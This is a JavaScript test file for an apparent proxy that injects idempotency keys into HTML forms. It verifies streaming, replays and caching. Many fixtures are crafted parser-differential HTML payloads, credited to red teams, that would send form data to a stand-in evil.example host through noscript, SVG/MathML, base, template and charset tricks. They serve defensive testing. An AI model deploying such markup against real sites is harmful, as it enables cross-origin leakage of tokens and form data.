// Forms with no JavaScript (SPEC §8, IDEMPOTENCY_FORMS=inject), on the
// production proxy in front of a Node server that renders plain HTML forms:
// each post form of each page served gets its own key, streamed; a form
// post takes its key from that field, which the server never sees; other
// answers pass byte for byte.
import assert from "node:assert/strict";
import http from "node:http";
import { after, before, describe, test } from "node:test";
import { BASE, start } from "./harness.mjs";

const UUID7 = /^[0-9a-f]{8}-[0-9a-f]{4}-7[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/;
const KEY_FIELD = /<input type="hidden" name="idempotency_key" value="([^"]+)">/g;
// The page's own base, placed with the first key at a form's end when no
// base came before: a browser takes the first, so none later moves a key.
const PIN = '<base href="">';
/** `page` as the layer sends it with its first form keyed: the pin before that form's end tag. */
const pinned = (page) => page.replace("</form>", `${PIN}</form>`);

const PAGE = `<!doctype html><html><body>
<form method="post" action="/orders" id="a"><input name="item" value="tea"><button>Buy</button></form>
<form method="get" action="/search" id="b"><input name="q"></form>
<FORM METHOD="POST" action="/orders" id="c"><input type="hidden" name="idempotency_key" value="page-own-key"></FORM>
<form action="/orders" id="d"><button formmethod="post">Buy</button></form>
</body></html>`;
const JSON_BODY = '{"html":"<form method=post></form>"}';
const FOREIGN_PAGE = '<!doctype html><form method="post" action="/orders"><button>Buy</button></form>';
// Of the forms before the tag, the one with an id waits for the page's end,
// which the rewriter never reaches: controls after the cut could name it.
const HUGE_TAG_PAGE = `<!doctype html><form method="post"><button>Buy</button></form><form method="post" id="a"><button>Buy</button></form>
<div id="app" data-page="${"x".repeat(4 * 1024 * 1024)}"></div>
<form method="post" id="b"><button>Buy</button></form><p>the end</p>`;
// Forms that could send a key some other way than a post's body.
const OTHER_WAYS = `<!doctype html>
<form method="post" enctype="text/plain" id="p"><button>Send</button></form>
<form method="post" id="q"><button>Buy</button><button formenctype="text/plain">Plain</button></form>
<form method="post" id="g"><button>Buy</button><button formmethod="get">Look</button></form>
<form id="m"><button formmethod="post">Buy</button><button formmethod="get">Look</button></form>
<form method="post" enctype="multipart/form-data" id="k"><button>Buy</button></form>`;

// A key for a form with an id: at the page's end, naming the form.
const NAMED_KEY_FIELD = /<input type="hidden" form="([^"]+)" name="idempotency_key" value="([^"]+)">/g;
// Forms whose key could leave the page's origin or land in a URL (SPEC §8).
const ELSEWHERE = `<!doctype html><html><body>
<form method="post" action="/orders" id="outside"><input name="item"><button>Buy</button></form>
<p>Much later, outside the form: <button form="outside" formmethod="get" formaction="/orders/preview">Preview</button></p>
<form method="post" action="https://evil.example/collect" id="foreign"><button>Buy</button></form>
<form method="post" action="/orders" id="formaction"><button formaction="/\\evil.example/collect">Buy</button></form>
<form method="get" action="/search" id="outer"><form method="post" action="/orders" id="inner"><button>Buy</button></form></form>
<template><form method="post" action="/orders" id="templated"><button>Buy</button></form></template>
<form method="post" action="/orders" id="twin"><button>Buy</button></form>
<form method="post" action="/orders" id="twin"><button>Buy</button></form>
<form method="post" action="/orders" id="plain"><button>Buy</button></form>
<form method="post" action="/orders" id="absolute"><button formaction="ORIGIN/orders">Buy</button></form>
<form method="post" action="/orders"><button>No id</button></form>
</body></html>`;
// Markup a browser reads otherwise than the rewriter (SPEC §8): each would
// send a key to another origin or into a URL, as a red team showed in Chromium.
const MISREAD = {
  // A form closed by another element's end tag stays the browser's form: the
  // next <form> start tag is ignored, and its controls join the GET form.
  "/misread/held-open": `<div><form method="get" action="https://evil.example/c"></div><form method="post" action="/orders"><input name="q"><button>Pay</button></form>`,
  // Character references in attributes, decoded by the browser.
  "/misread/references": `<form method="post" action="&#47;&#47;evil.example/x"><button>Pay</button></form>`,
  // With JavaScript off, a <noscript> button is the form's default button.
  "/misread/noscript": `<form method="post" action="/orders"><noscript><button formmethod="get">x</button></noscript><input name="q"><button>ok</button></form>`,
  // A button in SVG submits nothing: Enter sends the form itself, to evil.
  "/misread/svg": `<form method="post" action="https://evil.example/c"><input name="q"><svg><button formaction="/orders"></button></svg></form>`,
  // A base in a template is ignored; the next one is used.
  "/misread/template-base": `<head><template><base href="/"></template><base href="https://evil.example/"></head><form method="post" action="c" id="t"><button>Pay</button></form>`,
  // A page ending inside a text-only element: an input there would be text.
  "/misread/plaintext": `<form method="post" action="/orders" id="p"><button>Pay</button></form><plaintext>`,
  // A </form> with a <div> opened inside still open: the browser closes the
  // form alone, and the later GET button, still in the div, joins it.
  "/misread/left-open": `<form method="post" action="/orders"><div><input name="q"></form><button formmethod="get" formaction="/preview">Look</button></div>`,
  "/misread/left-open-id": `<form method="post" action="/orders" id="l"><section></form><button formmethod="get">Look</button></section>`,
  // End tags a browser ignores (a special element above the match) or
  // answers by moving elements (a formatting one): the <div> stays open in
  // the form past its </form>.
  "/misread/span-div": `<form method="post" action="/orders"><input name="q"><span><div></span></form><button formmethod="get" formaction="https://evil.example/c">Look</button>`,
  "/misread/b-div": `<form method="post" action="/orders" id="b"><input name="q"><b><div></b></form><button formmethod="get" formaction="https://evil.example/c">Look</button>`,
  // SVG and MathML corners the rewriter models otherwise: a GET button, a
  // base, a textarea that swallows a key, each hidden from it.
  "/misread/mglyph": `<form id="x" method="post" action="/orders"><input name="q"><button>Pay</button></form><math><mi><mglyph><style><p><button form="x" formmethod="get" formaction="https://evil.example/c">Look</button></style></mglyph></mi></math>`,
  "/misread/hidden-base": `<math><mi><mglyph><style><p><base href="https://evil.example/"></style></mglyph></mi></math><form method="post" action="orders"><input name="q"><button>Pay</button></form>`,
  // The third red team's: end tags stopped by an SVG/MathML integration
  // point or a list, a match a start tag had closed, an inline end tag past
  // a <p>, a template held open around a base.
  "/misread/svg-desc": `<form method="post" action="/orders"><input name="q"><div><svg><desc></div></form></desc></svg><button formmethod="get" formaction="https://evil.example/c">Look</button>`,
  "/misread/math-mi": `<form method="post" action="/orders"><input name="q"><div><math><mi></div></form></mi></math><button formmethod="get" formaction="https://evil.example/c">Look</button>`,
  "/misread/li-ul": `<form method="post" action="/orders"><input name="q"><li><ul></li></form><button formmethod="get" formaction="https://evil.example/c">Look</button>`,
  "/misread/dd-dt": `<form method="post" action="/orders"><input name="q"><dd><dt><div></dd></form><button formmethod="get" formaction="https://evil.example/c">Look</button>`,
  "/misread/span-p": `<form method="post" action="/orders"><input name="q"><span><p></span></form><button formmethod="get" formaction="https://evil.example/c">Look</button>`,
  "/misread/template-held-open": `<div><template></div><base href="/"></template><form method="post" action="orders"><input name="q"><button>Pay</button></form><base href="https://evil.example/">`,
  // The fourth's: a block element in a <noscript> inside the form, which a
  // browser without JavaScript keeps open past the </noscript> and </form>.
  "/misread/noscript-div": `<form method="post" action="/orders"><input name="q"><noscript><div></noscript></form><button formmethod="get" formaction="https://evil.example/c">Look</button>`,
  "/misread/svg-in-svg": `<form id="x" method="post" action="/orders"><input name="q"><button>Pay</button></form><form id="g" action="https://evil.example/c"><button>Send</button></form><svg><svg><p><textarea name="t" form="g"></svg></svg>`,
  // The fifth's: a <noscript> whose quoted value, comment or raw-text
  // element a browser keeps open past the </noscript> the rewriter saw (the
  // GET form stays the browser's), and a block end tag a browser ignores
  // inside a <select>.
  "/misread/noscript-title": `<form method="get" action="https://evil.example/c"><noscript><p title="</noscript></form><form method=post action=/orders>"><input name="q"><button>Pay</button></form>`,
  "/misread/noscript-comment": `<noscript><!--</noscript><form method="post" action="/a"><button>A</button></form>--></noscript><form method="post" action="orders"><input name="q"><button>Pay</button></form><base href="https://evil.example/">`,
  "/misread/noscript-xmp": `<form><noscript><xmp></noscript></form><form method="post" action="/orders"></xmp></noscript><input name="q"><button>Pay</button></form>`,
  "/misread/select-div": `<form id="x" method="post"><div><select></div></form><input type="submit" formmethod="get" formaction="https://evil.example/c" value="Look"><input name="q">`,
  "/misread/select-fieldset": `<form id="x" method="post"><fieldset><select></fieldset></form><input type="submit" formmethod="get" value="Look"><input name="q">`,
  // The sixth's: a base a browser moves out before a table (ahead of a pin
  // in a cell), and elements a <noscript> leaves open (a template that
  // keeps a GET form as the browser's form, or swallows the pin).
  "/misread/table-base": `<table><tr><td><form method="post" action="orders"><input name="q"><button>Pay</button></form></td></tr><base href="https://evil.example/"></table>`,
  "/misread/noscript-template": `<noscript><template></noscript><form method="post"></form></template><form method="post" action="orders"><input name="q"><button>Pay</button></form><base href="https://evil.example/">`,
  // The seventh's: a button Chromium does not count as a submitter (with
  // `commandfor`), so Enter sends the GET form itself; a `<noscript>`
  // comment a browser ends at `--!>`, leaving an `<xmp>` open that swallows
  // the `</form>` and keeps the GET form the browser's.
  "/misread/commandfor-get": `<form method="get" action="/search"><input name="q"><button commandfor="d" formmethod="post">Go</button></form>`,
  "/misread/noscript-bang-comment": `<form method="get" action="https://evil.example/c"><noscript><!-- --!><xmp><!-- --></noscript></form><form method="post" action="/orders"><input name="q"><button>Pay</button></form>`,
  // Ids as a browser reads them: a raw CR is LF, so this GET button names
  // the keyed form; an id the core cannot decode may be another's.
  "/misread/cr-id": `<form id="f\nx" method="post" action="/orders"><input name="q"><button>Pay</button></form><button form="f\rx" formmethod="get" formaction="https://evil.example/c">Look</button>`,
  "/misread/undecodable-id": `<form id="caf&eacute;" method="get" action="https://evil.example/c"><input name="q"></form><form id="café" method="post" action="/orders"><button>Pay</button></form>`,
  "/misread/noscript-template-get": `<form method="get" action="https://evil.example/c"><noscript><template></noscript></form></template><form method="post" action="/orders"><input name="q"><button>Pay</button></form>`,
};
// Markup common on real pages that reads alike to both: keys as usual.
const STILL_KEYED = `<!doctype html><noscript><img height="1" width="1" style="display:none" src="/px?id=1&amp;ev=PageView&amp;noscript=1"/></noscript><form method="post" action="/orders"><button><svg viewBox="0 0 1 1"><title>Cart</title><path d="M0 0"/></svg>Pay</button></form>
<form method="post" action="/orders"><table><tr><td><input name="q"></table><div><span>Total</div><ul><li>one<li>two</ul><textarea name="note"></textarea><button>Pay</button></form>
<math><mi>x</mi><mo>=</mo><mn>1</mn></math><form method="post" action="/orders" id="after-math"><button>Pay</button></form>`;
// Pages the runtime's rewriter stops on in the middle (it throws, or
// drops the rest of a tag of about 3 MB with no error) that the guard
// cannot foresee (the sixth red team's): the page arrives whole, every byte
// the rewriter did not pass sent as the origin sent it.
const KF = '<form method="post" action="/orders"><input name="q"><button>Pay</button></form>';
const TAIL = `<p id="after">${"the rest of the page ".repeat(200)}</p>`;
const BROKEN = {
  "/broken/select-noscript": `${KF}<select><option>a</option><noscript>Enable JS</noscript></select>${TAIL}`,
  "/broken/select-comment-close": `${KF}<select><!--</select>--><style>p{}</style></select>${TAIL}`,
  "/broken/select-attr-close": `${KF}<select><option title="</select>"><style>p{}</style></select>${TAIL}`,
  "/broken/select-script-close": `${KF}<select><script>"</select>"</script><style>p{}</style></select>${TAIL}`,
  "/broken/select-template-script": `${KF}<select><template><script>1</script></template></select>${TAIL}`,
  "/broken/select-template-textarea": `${KF}<select><template><textarea>x</textarea></template></select>${TAIL}`,
  "/broken/frameset-script": `${KF}<frameset></frameset><script>1</script>${TAIL}`,
  "/broken/frameset-noscript": `${KF}<frameset><noscript>x</noscript>${TAIL}`,
  "/broken/huge-value-with-gt": `${KF}<p data-x="a>${"x".repeat(4 * 1024 * 1024)}">${TAIL}`,
  "/broken/huge-comment": `${KF}<!-- ${"<b>".repeat(1500000)} -->${TAIL}`,
  // In parts, each sent apart: keys in the parts the rewriter passed, and
  // one placed in the part it stops on.
  // Bytes invalid in UTF-8 before the cut, which the rewriter re-encodes
  // (U+FFFD, 3 bytes for 1): its output runs long, so the guard's cut says
  // where to go on, not the output's length (the seventh red team lost 88
  // characters). Compared as a browser reads them.
  "/broken/stray-then-select-style": [
    Buffer.from(KF),
    Buffer.alloc(44, 0xff),
    `<select><style>x</style></select>${TAIL}`,
  ],
  "/broken/stray-then-esc": [Buffer.from(KF), Buffer.alloc(44, 0xff), `<pre>\x1b[31mred\x1b[0m</pre>${TAIL}`],
  // Text in windows-1252 (named by a <meta>, or not at all), whose bytes
  // are not UTF-8: a document-wide text handler made the rewriter re-encode
  // them ("Café" became "Cafï¿½", the seventh red team); and a page
  // ending in "a <" with a form whose id is not ASCII, whose key is written
  // in the page's charset.
  "/broken/windows-1252-text": [
    Buffer.from(`<meta charset="windows-1252">${KF}<p>Caf`),
    Buffer.from([0xe9, 0x20, 0x63, 0x72, 0xe8, 0x6d, 0x65]),
    `</p><script>var s = "`,
    Buffer.from([0xff]),
    `";</script>${TAIL}`,
  ],
  "/broken/windows-1252-id-then-lt": [
    Buffer.from('<meta charset="windows-1252"><form id="caf'),
    Buffer.from([0xe9]),
    `" method="post" action="/orders"><input name="q"><button>Pay</button></form>${TAIL}a <`,
  ],
  "/broken/in-parts": [`${KF}<p>${"x".repeat(70000)}</p>`, KF, `${KF}<select><noscript>x</noscript></select>`, TAIL],
};
// Pages a browser reads otherwise than the rewriter at their very end, or
// in another charset than the rewriter (the red team's findings, each sent
// a key to another origin or into a URL in Chromium): served as bytes.
const UNFINISHED_BASE =
  '<form method="post" action="orders"><button>Pay</button></form><form method="post" action="/y" id="x"><button>Other</button></form><base href="https://evil.example/" ';
const ENDS_AND_CHARSETS = {
  // Text-only elements inside a <select>, which the runtime's rewriter
  // cannot read (it threw mid-page, and the page was cut off): the page is
  // cut before them, its rest as sent.
  "/ends/select-noframes": ["text/html", "<p>before</p><select><noframes>x</noframes></select><p>after</p>"],
  "/ends/select-style": [
    "text/html",
    `<p>before</p><form method="post"><select><style></select></style></select></form><p>after: ${"the tail of the page ".repeat(50)}</p>`,
  ],
  // A page ending inside a tag: an input placed after it would finish the
  // tag and lend it `form="x"` and the key as its value.
  "/ends/in-tag": [
    "text/html",
    '<form method="post" action="/orders" id="x"><input name="q"></form><button name="k" formmethod="get" formaction="https://evil.example/c" ',
  ],
  "/ends/in-attribute": [
    "text/html",
    '<form method="post" action="/orders" id="x"><input name="q"></form><button formmethod="get" formaction="https://evil.example/c" title="',
  ],
  // No charset in the header, ISO-2022-JP in a <meta>: past ESC $ B a
  // browser reads two-byte text where the rewriter reads markup.
  "/ends/iso-2022-jp": [
    "text/html",
    '<meta charset="iso-2022-jp"><form method="get" action="/search"><input name="q">\x1b$B</form><form method="post" action="/orders">\x1b(B<button>Pay</button></form>',
  ],
  // A UTF-16 byte order mark, which a browser obeys over the header.
  // Two Content-Type values: a browser reads the last, here XML.
  "/ends/two-types": ["text/html;a=b, application/xhtml+xml", FOREIGN_PAGE],
  "/ends/utf-16-bom": [
    "text/html; charset=utf-8",
    Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from('<form method="get" action="https://evil.example/c"><textarea name="t">', "utf16le"),
      Buffer.from('<form  method="post" action="/orders"><button>Pay</button></form>'),
      Buffer.from("</textarea><button>Search</button></form>", "utf16le"),
    ]),
  ],
};
// Bases after a keyed form with no id (invalid HTML, honoured by browsers,
// which take the first): the page's own base goes before the first key.
const LATE_BASE = `<!doctype html><form method="post" action="orders"><p>Pay now<button>Pay</button></form>
<base href="/shop/"><base href="https://evil.example/"><noscript><BASE href="https://evil.example/"></noscript>
<noscript><p>Turn on JavaScript</p></noscript>`;
// A page whose base sends every relative action to another origin.
const BASED = `<!doctype html><html><head><base href="https://evil.example/"></head><body>
<form method="post" action="/orders" id="relative"><button>Buy</button></form>
<form method="post" id="ownurl"><button>Buy</button></form>
<form method="post" action="/orders"><button>No id</button></form>
</body></html>`;

/** Each form of a page, by id, with the keys given to it (inside it, or naming it). */
function formsOf(html) {
  const forms = {};
  for (const match of html.matchAll(/<form[^>]* id="(\w+)"[^>]*>([\s\S]*?)<\/form>/gi)) {
    forms[match[1]] = [...match[2].matchAll(KEY_FIELD)].map((m) => m[1]);
  }
  for (const [, id, key] of html.matchAll(NAMED_KEY_FIELD)) forms[id]?.push(key);
  return forms;
}

/** The server: its pages, and every order post it got. */
function server() {
  const posts = [];
  let releaseBig;
  const bigReleased = new Promise((resolve) => {
    releaseBig = resolve;
  });
  const api = http.createServer(async (req, res) => {
    if (req.method === "GET" && req.url === "/shop") {
      res.writeHead(200, {
        "content-type": "text/html; charset=utf-8",
        "content-length": Buffer.byteLength(PAGE),
        etag: '"page-v1"',
        "cache-control": "public, max-age=60",
        // What CDNs obey over Cache-Control.
        "cdn-cache-control": "max-age=600",
        "cloudflare-cdn-cache-control": "max-age=600",
        "surrogate-control": "max-age=600",
      });
      return res.end(PAGE);
    }
    if (req.method === "GET" && req.url === "/data.json") {
      res.writeHead(200, { "content-type": "application/json", etag: '"d1"', "content-length": JSON_BODY.length });
      return res.end(JSON_BODY);
    }
    if (req.method === "GET" && req.url.startsWith("/big")) {
      // One form, then nothing more until the test has seen its key: the
      // layer must stream the page, not hold it. Then 16 MB of forms.
      res.writeHead(200, { "content-type": "text/html" });
      res.write('<!doctype html><form method="post" action="/orders"><button>0</button></form>');
      await bigReleased;
      const chunk = `<p>${"x".repeat(8000)}</p><form method="post"><button>n</button></form>\n`;
      for (let i = 0; i < 2048; i++) {
        if (!res.write(chunk)) await new Promise((resolve) => res.once("drain", resolve));
      }
      return res.end("</html>");
    }
    if (req.method === "POST" && req.url === "/review") {
      // A keyed post whose answer is a page with a form: its replay is HTML too.
      req.resume();
      res.writeHead(200, { "content-type": "text/html" });
      return res.end('<form method="post" action="/orders" id="r"><button>Confirm</button></form>');
    }
    if (req.method === "POST" && (req.url === "/orders" || req.url === "/orders?slow=1")) {
      const chunks = [];
      for await (const chunk of req) chunks.push(chunk);
      const body = Buffer.concat(chunks);
      posts.push({ headers: req.headers, body });
      // A slow order: duplicates arrive while it runs.
      if (req.url.endsWith("slow=1")) await new Promise((resolve) => setTimeout(resolve, 300));
      res.writeHead(303, { location: `/orders/${posts.length}` });
      return res.end();
    }
    if (req.url === "/utf16" || req.url === "/unknown-charset") {
      // Pages in charsets the rewriter cannot read: answered as sent.
      req.resume();
      const utf16 = req.url === "/utf16";
      res.writeHead(200, { "content-type": `text/html; charset=${utf16 ? "utf-16" : "x-oncekey-unknown"}` });
      return res.end(utf16 ? Buffer.from(`\ufeff${FOREIGN_PAGE}`, "utf16le") : FOREIGN_PAGE);
    }
    if (req.url === "/range") {
      res.writeHead(206, { "content-type": "text/html", "content-range": `bytes 0-${FOREIGN_PAGE.length - 1}/9999` });
      return res.end(FOREIGN_PAGE);
    }
    if (req.url === "/huge-tag") {
      // A server-rendered app's props in one attribute: a 4 MB tag between two forms.
      req.resume();
      res.writeHead(200, { "content-type": "text/html" });
      return res.end(HUGE_TAG_PAGE);
    }
    if (req.url in BROKEN) {
      req.resume();
      res.writeHead(200, { "content-type": "text/html" });
      for (const part of [BROKEN[req.url]].flat()) {
        res.write(part);
        await new Promise((resolve) => setTimeout(resolve, 30));
      }
      return res.end();
    }
    if (req.url in MISREAD || req.url === "/xhtml") {
      const xhtml = req.url === "/xhtml";
      res.writeHead(200, { "content-type": xhtml ? "application/xhtml+xml" : "text/html" });
      return res.end(
        xhtml ? `<html xmlns="http://www.w3.org/1999/xhtml"><body>${FOREIGN_PAGE}</body></html>` : MISREAD[req.url],
      );
    }
    if (["/elsewhere", "/based", "/late-base", "/still-keyed"].includes(req.url)) {
      res.writeHead(200, { "content-type": "text/html" });
      // The page's own origin, as the worker is reached.
      return res.end(
        { "/based": BASED, "/late-base": LATE_BASE, "/still-keyed": STILL_KEYED }[req.url] ??
          ELSEWHERE.replace("ORIGIN", BASE),
      );
    }
    if (req.url === "/ends/base") {
      res.writeHead(200, { "content-type": "text/html" });
      return res.end(UNFINISHED_BASE);
    }
    if (req.url in ENDS_AND_CHARSETS) {
      const [type, body] = ENDS_AND_CHARSETS[req.url];
      res.writeHead(200, { "content-type": type });
      return res.end(body);
    }
    if (req.url === "/other-ways") {
      res.writeHead(200, { "content-type": "text/html" });
      return res.end(OTHER_WAYS);
    }
    res.writeHead(404).end();
  });
  return { api, posts, releaseBig };
}

/** The server behind the production proxy with `vars`; `stop()` ends both. */
async function behindProxy(vars = {}) {
  const origin = server();
  await new Promise((resolve) => origin.api.listen(0, "127.0.0.1", resolve));
  const proxy = await start({
    worker: "proxy",
    vars: { ORIGIN_URL: `http://127.0.0.1:${origin.api.address().port}`, ...vars },
  });
  const stop = async () => {
    await proxy.dispose();
    origin.api.close();
  };
  return { proxy, origin, stop };
}

describe("IDEMPOTENCY_FORMS=inject", () => {
  let proxy;
  let origin;
  let stop;
  before(async () => {
    ({ proxy, origin, stop } = await behindProxy({ IDEMPOTENCY_FORMS: "inject" }));
  });
  after(() => stop?.());

  test("every post form of a page gets a new UUIDv7; get forms and a page's own key are left alone", async () => {
    const res = await proxy.fetch("/shop");
    assert.equal(res.status, 200);
    const html = await res.text();
    const forms = formsOf(html);
    assert.deepEqual(Object.keys(forms).sort(), ["a", "b", "c", "d"], html);
    assert.equal(forms.a.length, 1);
    assert.match(forms.a[0], UUID7);
    // A get form whose button posts it: a browser may still send it with
    // its own GET (Enter; a button it does not count as a submitter).
    assert.deepEqual(forms.d, [], "a get form whose button posts");
    assert.deepEqual(forms.b, [], "a get form: a key would only land in the URL");
    assert.deepEqual(forms.c, ["page-own-key"], "the page's own field wins");
    // The body is new with each answer: nothing may describe the origin's bytes or share it.
    assert.equal(res.headers.get("etag"), null);
    assert.equal(res.headers.get("cache-control"), "private, max-age=60");
    // No CDN in front of the worker may keep it either (SPEC §8).
    for (const name of ["cdn-cache-control", "cloudflare-cdn-cache-control", "surrogate-control"]) {
      assert.equal(res.headers.get(name), null, name);
    }
    const again = formsOf(await (await proxy.fetch("/shop")).text());
    assert.notEqual(again.a[0], forms.a[0], "each page served has its own keys");
  });

  test("a form post is keyed by its field: the server gets the header, the rest of the body byte for byte, once", async () => {
    const forms = formsOf(await (await proxy.fetch("/shop")).text());
    const key = forms.a[0];
    const before = origin.posts.length;
    const body = `item=green+tea&note=%C3%A9t%C3%A9&idempotency_key=${key}&qty=2`;
    const post = () =>
      proxy.fetch("/orders", {
        method: "POST",
        headers: { "content-type": "application/x-www-form-urlencoded" },
        body,
        redirect: "manual",
      });
    const first = await post();
    assert.equal(first.status, 303);
    assert.equal(first.headers.get("location"), `/orders/${before + 1}`);
    // A double click, a back-and-resubmit, a reload-resubmit: the same request again.
    const again = await Promise.all([post(), post(), post()]);
    for (const res of again) {
      assert.equal(res.status, 303);
      assert.equal(res.headers.get("idempotent-replayed"), "true");
      assert.equal(res.headers.get("location"), `/orders/${before + 1}`, "the same confirmation");
    }
    assert.equal(origin.posts.length, before + 1, "one order");
    const got = origin.posts[before];
    assert.equal(got.headers["idempotency-key"], key);
    assert.equal(got.body.toString(), "item=green+tea&note=%C3%A9t%C3%A9&qty=2");
    assert.equal(got.headers["content-length"], String(got.body.length));
  });

  test("10 concurrent posts of one page's form, 3 rounds: one order each, every browser gets its 303", async () => {
    for (let round = 0; round < 3; round++) {
      const key = formsOf(await (await proxy.fetch("/shop")).text()).a[0];
      const before = origin.posts.length;
      const answers = await Promise.all(
        Array.from({ length: 10 }, () =>
          proxy.fetch("/orders?slow=1", {
            method: "POST",
            headers: { "content-type": "application/x-www-form-urlencoded" },
            body: `item=tea&idempotency_key=${key}`,
            redirect: "manual",
          }),
        ),
      );
      assert.equal(origin.posts.length, before + 1, `round ${round}: one execution`);
      const locations = new Set(answers.map((res) => `${res.status} ${res.headers.get("location")}`));
      assert.deepEqual([...locations], [`303 /orders/${before + 1}`], `round ${round}: the same answer for all`);
      assert.equal(answers.filter((res) => res.headers.get("idempotent-replayed") === "true").length, 9);
    }
  });

  test("a multipart form post is keyed by its field too, the field's part taken out", async () => {
    const key = formsOf(await (await proxy.fetch("/shop")).text()).a[0];
    const before = origin.posts.length;
    const form = () => {
      const data = new FormData();
      data.append("item", "tea");
      data.append("receipt", new Blob(["a file\r\n--not a delimiter"], { type: "text/plain" }), "r.txt");
      data.append("idempotency_key", key);
      return data;
    };
    // Each FormData is encoded with a new boundary (undici's, as a browser
    // would: Miniflare's dispatch takes bytes): still the same request.
    for (let i = 0; i < 2; i++) {
      const encoded = new Response(form());
      const res = await proxy.fetch("/orders", {
        method: "POST",
        headers: { "content-type": encoded.headers.get("content-type") },
        body: new Uint8Array(await encoded.arrayBuffer()),
        redirect: "manual",
      });
      assert.equal(res.status, 303);
    }
    assert.equal(origin.posts.length, before + 1);
    const got = origin.posts[before];
    assert.equal(got.headers["idempotency-key"], key);
    const text = got.body.toString();
    assert.ok(!text.includes("idempotency_key") && !text.includes(key), text);
    assert.ok(text.includes('name="item"') && text.includes("a file\r\n--not a delimiter"), text);
    assert.equal(got.headers["content-length"], String(got.body.length));
  });

  test("a replayed page gets new keys: the stored answer is the server's own", async () => {
    const key = crypto.randomUUID();
    const send = () =>
      proxy.fetch("/review", {
        method: "POST",
        headers: { "content-type": "application/json", "idempotency-key": key },
        body: "{}",
      });
    const first = await send();
    const firstKeys = formsOf(await first.text()).r;
    const replay = await send();
    assert.equal(replay.headers.get("idempotent-replayed"), "true");
    const replayKeys = formsOf(await replay.text()).r;
    assert.equal(firstKeys.length, 1);
    assert.equal(replayKeys.length, 1);
    assert.notEqual(replayKeys[0], firstKeys[0]);
  });

  test("a bad field is a 400 invalid-key, and nothing reaches the server", async () => {
    const before = origin.posts.length;
    for (const body of ["idempotency_key=a+b", "idempotency_key=k1&idempotency_key=k2"]) {
      const res = await proxy.fetch("/orders", {
        method: "POST",
        headers: { "content-type": "application/x-www-form-urlencoded" },
        body,
      });
      assert.equal(res.status, 400, body);
      assert.equal((await res.json()).type, "urn:oncekey:problem:invalid-key");
    }
    assert.equal(origin.posts.length, before);
  });

  test("a large page streams: the first form's key reaches the browser before the server sends the rest", async () => {
    // Uncompressed: local workerd's gzip holds a slow answer's first bytes
    // back, with or without the layer.
    const res = await proxy.fetch("/big", { headers: { "accept-encoding": "identity" } });
    const reader = res.body.getReader();
    const decoder = new TextDecoder();
    let seen = "";
    while (!seen.includes('name="idempotency_key"')) {
      const { value, done } = await reader.read();
      assert.ok(!done, "the page ended before its first form had a key");
      seen += decoder.decode(value, { stream: true });
    }
    origin.releaseBig();
    for (;;) {
      const { value, done } = await reader.read();
      if (done) break;
      seen += decoder.decode(value, { stream: true });
    }
    const size = seen.length;
    const keys = [...seen.matchAll(KEY_FIELD)].map((m) => m[1]);
    assert.ok(size > 16_000_000, `${size} bytes`);
    assert.equal(keys.length, 2049, "every form of 16 MB, keyed as it passed");
    assert.equal(new Set(keys).size, keys.length, "each its own key");
  });

  test("a form that can send its fields another way (text/plain, a GET button) gets no key", async () => {
    const forms = formsOf(await (await proxy.fetch("/other-ways")).text());
    assert.deepEqual(forms, { p: [], q: [], g: [], m: [], k: [forms.k[0]] });
    assert.match(forms.k[0], UUID7, "a multipart post form still gets one");
  });

  test("a form that could send its key to another origin or in a URL gets none, every submitter considered", async () => {
    const html = await (await proxy.fetch("/elsewhere")).text();
    // Outside a control naming its form with GET, a foreign action or
    // formaction, nested forms, a template, two forms sharing an id: none.
    const named = [...html.matchAll(NAMED_KEY_FIELD)].map(([, id, key]) => [id, key]);
    assert.deepEqual(
      named.map(([id]) => id),
      ["plain", "absolute"],
      `a post form of the page's own origin (an absolute action too) still gets one:\n${html}`,
    );
    for (const [, key] of named) assert.match(key, UUID7);
    const placedAt = html.indexOf('<input type="hidden" form="plain"');
    assert.ok(placedAt > html.lastIndexOf("</html>"), "at the page's end, once every control was seen");
    assert.equal([...html.matchAll(KEY_FIELD)].length, 1, "and the form with no id, before its end tag");
    assert.match(
      html,
      /No id<\/button><base href=""><input type="hidden" name="idempotency_key" value="[^"]+"><\/form>/,
    );
    const based = formsOf(await (await proxy.fetch("/based")).text());
    assert.deepEqual(based.relative, [], "the base sends it to another origin");
    assert.equal(based.ownurl.length, 1, "no action: the page's own URL, whatever the base");
    assert.doesNotMatch(await (await proxy.fetch("/based")).text(), /No id<\/button><input/);
  });

  test("markup a browser reads otherwise than the rewriter gets no key: held-open forms, references, noscript, SVG, bases, text-only ends", async () => {
    for (const path of Object.keys(MISREAD)) {
      const html = await (await proxy.fetch(path)).text();
      assert.doesNotMatch(html, /idempotency_key/, `${path}: ${html}`);
      assert.equal(html, MISREAD[path], `${path}: the page as the server sent it`);
    }
    const xhtml = await proxy.fetch("/xhtml");
    assert.doesNotMatch(await xhtml.text(), /idempotency_key/, "an XHTML page is XML: never rewritten");
  });

  test("a base after a keyed form moves no key: the page's own base goes first, with the first key", async () => {
    const html = await (await proxy.fetch("/late-base")).text();
    const keys = [...html.matchAll(KEY_FIELD)].map((m) => m[1]);
    assert.equal(keys.length, 1, html);
    assert.match(keys[0], UUID7);
    assert.ok(html.indexOf(PIN) < html.indexOf(keys[0]), "the pin, then the key");
    assert.equal(html.replace(KEY_FIELD, ""), pinned(LATE_BASE), "every other byte as sent");
    // A page with a base of its own before its forms keeps it first: no pin.
    const based = await (await proxy.fetch("/based")).text();
    assert.doesNotMatch(based, /<base href="">/);
  });

  test("markup common on real pages (an icon's SVG, a table, sloppy end tags, MathML) keeps its keys", async () => {
    const html = await (await proxy.fetch("/still-keyed")).text();
    assert.equal([...html.matchAll(KEY_FIELD)].length, 2, html);
    assert.equal([...html.matchAll(NAMED_KEY_FIELD)].length, 1, html);
  });

  test("a page ending inside a tag, or read in another charset by a browser, gets no key there; every byte as sent", async () => {
    for (const [path, [, body]] of Object.entries(ENDS_AND_CHARSETS)) {
      const bytes = Buffer.from(
        await (await proxy.fetch(path, { headers: { "accept-encoding": "identity" } })).arrayBuffer(),
      );
      assert.deepEqual(bytes, Buffer.from(body), `${path}: ${bytes}`);
    }
    // A base finished by nothing: a browser drops it at the end of the page,
    // and the form before it keeps its key.
    const html = await (await proxy.fetch("/ends/base")).text();
    assert.equal(html.replace(KEY_FIELD, ""), pinned(UNFINISHED_BASE), html);
    assert.equal([...html.matchAll(KEY_FIELD)].length, 1, "the form with no id, before its end tag");
  });

